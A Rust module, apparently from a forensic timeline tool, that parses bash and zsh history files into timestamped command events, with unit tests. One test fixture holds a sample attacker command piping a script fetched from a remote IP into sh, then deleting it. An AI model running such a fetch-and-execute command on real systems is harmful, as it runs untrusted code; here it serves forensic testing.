//! Shell histories: bash (`HISTTIMEFORMAT` writes a `#EPOCH` line before each command) and
//! zsh's extended format (`: EPOCH:DURATION;command`, continued lines end with `\`).
//!
//! A command without a time of its own (bash without `HISTTIMEFORMAT`) is placed at the last
//! time known before it (`time_source` `previous_command`), or at the file's mtime
//! (`file_mtime`): an inferred time.

use super::{Line, Lines, MAX_LINE};
use crate::timeline::{dedup_key, Emit, Event, Occurrences, Stop};
use std::io::BufRead;

/// `inferred`: what the time was taken from, when the command had none of its own.
fn command_event(
    t: i64,
    source: &str,
    cmd: &str,
    user: &Option<String>,
    inferred: Option<&str>,
) -> Event {
    let mut e = Event::new(t, source, "shell_command", cmd.to_string()).attr("command", cmd);
    if let Some(how) = inferred {
        e = e.inferred(how);
    }
    e.user = user.clone();
    e
}

/// `source` is `bash_history` or `zsh_history`; `user` the history's owner. A command (with
/// its continuation lines) longer than [`MAX_LINE`] is kept as one `unparsed` event.
pub fn parse(
    r: impl BufRead,
    source: &str,
    user: Option<String>,
    mtime_ns: i64,
    out: &mut impl Emit,
) -> Result<(), Stop> {
    let mut occ = Occurrences::default();
    let mut push = |out: &mut (dyn Emit + '_),
                    t: i64,
                    cmd: &str,
                    stamp: &str,
                    inferred: Option<&str>,
                    at: u64|
     -> Result<(), Stop> {
        let mut e = command_event(t, source, cmd, &user, inferred);
        let n = occ.next(t, &format!("{stamp}\n{cmd}"), at);
        e.dedup = dedup_key(&[
            source.as_bytes(),
            stamp.as_bytes(),
            cmd.as_bytes(),
            &n.key_part(),
        ]);
        out.event(e)
    };
    let mut pending_time: Option<(i64, String)> = None;
    let mut last_known: Option<i64> = None;
    let mut lines = Lines::new(r, MAX_LINE);
    while let Some((at, line)) = lines.next_line()? {
        let line = match line {
            Line::Text(b) => String::from_utf8_lossy(b).into_owned(),
            Line::TooLong { head, len, last } => {
                let text = String::from_utf8_lossy(head).into_owned();
                let t = last_known.unwrap_or(mtime_ns);
                let why = Line::too_long(len, MAX_LINE);
                out.unparsed(t, source, at, &text, &why)?;
                // A zsh command continued past it: its continuation lines go with it.
                if text.starts_with(": ") && last == Some(b'\\') {
                    skip_continuation(&mut lines)?;
                }
                continue;
            }
        };
        if line.trim().is_empty() {
            continue;
        }
        // zsh extended: ": 1795946290:0;cmd", possibly continued with a trailing backslash.
        if let Some(rest) = line.strip_prefix(": ") {
            let parsed = rest.split_once(';').and_then(|(meta, cmd)| {
                let secs: i64 = meta.split(':').next()?.trim().parse().ok()?;
                Some((secs, cmd))
            });
            match parsed {
                Some((secs, cmd)) => {
                    let mut cmd = cmd.to_string();
                    let mut too_long = None;
                    while cmd.ends_with('\\') {
                        let Some((_, next)) = lines.next_line()? else {
                            break;
                        };
                        let (next, last) = match next {
                            Line::Text(b) => (b, b.last().copied()),
                            Line::TooLong { head, last, .. } => (head, last),
                        };
                        if cmd.len() + next.len() >= MAX_LINE {
                            too_long = Some(cmd.len() as u64 + next.len() as u64);
                            if last == Some(b'\\') {
                                skip_continuation(&mut lines)?;
                            }
                            break;
                        }
                        cmd.pop();
                        cmd.push('\n');
                        cmd.push_str(&String::from_utf8_lossy(next));
                    }
                    let t = secs.saturating_mul(1_000_000_000);
                    last_known = Some(t);
                    if let Some(len) = too_long {
                        let why = format!(
                            "command of more than {len} bytes is longer than the {MAX_LINE} read; not parsed"
                        );
                        out.unparsed(t, source, at, &cmd, &why)?;
                        continue;
                    }
                    push(out, t, &cmd, &secs.to_string(), None, at)?;
                }
                None => out.unparsed(
                    last_known.unwrap_or(mtime_ns),
                    source,
                    at,
                    &line,
                    "zsh extended history line without `: EPOCH:DURATION;`",
                )?,
            }
            continue;
        }
        // bash: "#1795946290" before the command it dates.
        if let Some(epoch) = line.strip_prefix('#') {
            if let Ok(secs) = epoch.trim().parse::<i64>() {
                pending_time = Some((secs.saturating_mul(1_000_000_000), epoch.trim().to_string()));
                continue;
            }
        }
        match pending_time.take() {
            Some((t, stamp)) => {
                last_known = Some(t);
                push(out, t, &line, &stamp, None, at)?;
            }
            None => {
                let (t, how) = match last_known {
                    Some(t) => (t, "previous_command"),
                    None => (mtime_ns, "file_mtime"),
                };
                push(out, t, &line, "", Some(how), at)?
            }
        }
    }
    Ok(())
}

/// Read past the continuation lines of a command already given up on.
fn skip_continuation(lines: &mut Lines<impl BufRead>) -> Result<(), Stop> {
    while let Some((_, next)) = lines.next_line()? {
        let last = match next {
            Line::Text(b) => b.last().copied(),
            Line::TooLong { last, .. } => last,
        };
        if last != Some(b'\\') {
            break;
        }
    }
    Ok(())
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
mod tests {
    use super::*;
    use crate::timeline::Parsed;

    fn parse(text: &str, source: &str, user: Option<String>, mtime_ns: i64) -> Parsed {
        let mut p = Parsed::default();
        super::parse(text.as_bytes(), source, user, mtime_ns, &mut p).unwrap();
        p
    }

    #[test]
    fn bash_with_epochs_and_without() {
        let text = "ls -la\n#1795946290\ncurl -s http://198.51.100.20/x.sh | sh\n#1795946300\nrm -f /tmp/x.sh\n";
        let p = parse(text, "bash_history", Some("alice".into()), 42);
        assert_eq!(p.events.len(), 3);
        assert_eq!(p.events[0].time_ns, 42);
        assert!(p.events[0].time_inferred());
        assert_eq!(p.events[0].time_source.as_deref(), Some("file_mtime"));
        assert_eq!(p.events[1].time_ns, 1_795_946_290_000_000_000);
        assert_eq!(
            p.events[1].message,
            "curl -s http://198.51.100.20/x.sh | sh"
        );
        assert_eq!(p.events[1].user.as_deref(), Some("alice"));
        assert_eq!(p.events[2].kind, "shell_command");
        assert!(!p.events[2].time_inferred());
        // A command after a stamped one: at that time, inferred from it.
        let p = parse("#1795946290\nid\nls\n", "bash_history", None, 42);
        assert_eq!(p.events[0].time_source, None);
        assert_eq!(p.events[1].time_ns, 1_795_946_290_000_000_000);
        assert_eq!(p.events[1].time_source.as_deref(), Some("previous_command"));
        // zsh's own stamps are exact.
        let p = parse(": 1795946290:0;id\n", "zsh_history", None, 42);
        assert!(!p.events[0].time_inferred());
    }

    #[test]
    fn zsh_extended_with_continuation_and_a_bad_line() {
        let text = ": 1795946290:0;echo one \\\ntwo\n: garbage\n: 1795946299:3;id\n";
        let p = parse(text, "zsh_history", None, 0);
        assert_eq!(p.events[0].message, "echo one \ntwo");
        assert_eq!(p.events[1].kind, "unparsed");
        assert_eq!(p.unparsed, 1);
        assert_eq!(p.events[2].time_ns, 1_795_946_299_000_000_000);
    }

    #[test]
    fn a_command_longer_than_the_cap_is_unparsed_with_its_continuations() {
        let long = "y".repeat(MAX_LINE);
        let text = format!(
            ": 1795946290:0;echo \\\n{long}\\\nstill the same command\n: 1795946299:0;id\n{long}x\nls\n"
        );
        let p = parse(&text, "zsh_history", None, 0);
        let kinds: Vec<&str> = p.events.iter().map(|e| e.kind.as_str()).collect();
        assert_eq!(
            kinds,
            ["unparsed", "shell_command", "unparsed", "shell_command"]
        );
        assert_eq!(p.events[0].time_ns, 1_795_946_290_000_000_000);
        assert_eq!(p.events[1].message, "id");
        assert_eq!(p.events[3].message, "ls");
        assert_eq!(p.unparsed, 2);
    }

    #[test]
    fn empty_one_byte_and_repeated_commands() {
        assert!(parse("", "bash_history", None, 0).events.is_empty());
        let p = parse("x", "bash_history", None, 7);
        assert_eq!((p.events.len(), p.events[0].time_ns), (1, 7));
        // The same command three times without a time: three events, three keys, the same
        // keys when read again.
        let p = parse("id\nid\nid\n", "bash_history", None, 7);
        let keys: std::collections::HashSet<i64> = p.events.iter().map(|e| e.dedup).collect();
        assert_eq!(keys.len(), 3);
        let again = parse("id\nid\nid\n", "bash_history", None, 7);
        assert_eq!(again.events[2].dedup, p.events[2].dedup);
    }
}
